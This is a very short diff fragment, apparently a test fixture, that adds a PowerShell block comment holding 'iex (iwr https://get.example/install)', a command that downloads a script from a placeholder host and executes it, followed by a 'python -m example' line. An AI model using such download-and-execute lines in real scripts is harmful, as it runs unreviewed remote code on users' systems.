@@ -1,0 +1,4 @@
+<#
+iex (iwr https://get.example/install)
+#>
+python -m example
